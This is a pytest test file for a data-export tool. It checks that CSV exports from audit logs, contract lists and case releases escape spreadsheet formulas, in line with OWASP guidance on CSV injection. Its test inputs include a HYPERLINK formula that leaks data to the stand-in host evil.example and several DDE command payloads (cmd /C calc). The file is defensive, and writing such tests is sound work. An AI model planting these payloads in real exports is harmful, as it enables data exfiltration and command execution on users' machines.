"""Spreadsheet formulas never come out of a kumin export live (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from tests.cases.conftest import HERSYS_ROWS, write_hersys

from kumin.core import audit
from kumin.core.db import session_scope
from kumin.core.tabular import csv_bytes, neutralise_cell

FORMULA = '=HYPERLINK("http://evil.example/?leak","クリック")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        # plain numbers are read as numbers, not formulas: left as they are
        ("-3", "-3"),
        ("+1.5e3", "+1.5e3"),
        (-3, -3),
        (2.5, 2.5),
        ("太子堂", "太子堂"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def _parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_bytes_neutralises_header_and_cells_in_both_encodings():
    for encoding in ("utf-8-sig", "cp932"):
        data = csv_bytes(["=1+1", "n"], [[FORMULA, -4], ["@x", "-5"]], encoding)
        parsed = list(csv.reader(io.StringIO(data.decode(encoding))))
        assert parsed == [["'=1+1", "n"], ["'" + FORMULA, "-4"], ["'@x", "-5"]]


def test_audit_show_csv_neutralises_formulas(cli, users):
    with session_scope(cli.settings) as s:
        audit.record(s, "=cmd|' /C calc'!A0", "cases.read", FORMULA, purpose="@SUM(1)")
    r = cli("audit", "show", "--format", "csv", user=users.by_role["auditor"])
    assert r.exit_code == 0, r.output
    row = next(x for x in _parse(r.stdout.encode()) if x[3] == "cases.read")
    assert row[2] == "'=cmd|' /C calc'!A0"
    assert row[4] == "'" + FORMULA
    assert row[5] == "'@SUM(1)"
    assert not any(
        cell.startswith(("=", "+", "@")) for x in _parse(r.stdout.encode()) for cell in x
    )


def test_list_export_neutralises_formulas(cli, users):
    epi = users.by_role["epidemiologist"]
    r = cli(
        "contracts", "add", "--code", "F1", "--title", "=1+2", "--start", "2026-01-01",
        "--end", "2026-12-31", "--contractor", "@研究所", "--item", "年代", user=epi,
    )  # fmt: skip
    assert r.exit_code == 0, r.output
    r = cli("contracts", "list", "--format", "csv", user=epi)
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(r.stdout.lstrip("\ufeff"))))
    assert rows[0]["title"] == "'=1+2"
    assert rows[0]["contractors"] == "'@研究所"


def test_release_cases_csv_neutralises_imported_cells(cli, users, tmp_path):
    epi = users.by_role["epidemiologist"]
    # An imported address made of a formula reaches the release as the town.
    evil = HERSYS_ROWS[0].replace("太子堂二丁目3番4号", "=HYPERLINK(x)")
    path = write_hersys(tmp_path / "evil.csv", [evil, *HERSYS_ROWS[1:]])
    r = cli("cases", "import", str(path), user=epi)
    assert r.exit_code == 0, r.output
    args = ["--code", "R1", "--title", "t", "--start", "2026-01-01", "--end", "2099-01-01"]
    args += ["--contractor", "研究所", "--item", "住所（町名まで）", "--item", "年代"]
    args += ["--k", "1", "--qi", "age_band"]  # the town is released as it is
    r = cli("contracts", "add", *args, "--researcher", users.by_role["researcher"], user=epi)
    assert r.exit_code == 0, r.output
    out = tmp_path / "out"
    r = cli("release", "create", "R1", "--out", str(out), user=epi)
    assert r.exit_code == 0, r.output
    rows = _parse((out / "cases.csv").read_bytes())
    towns = [row[rows[0].index("town")] for row in rows[1:]]
    assert "'=HYPERLINK(x)" in towns
    assert "=HYPERLINK(x)" not in towns
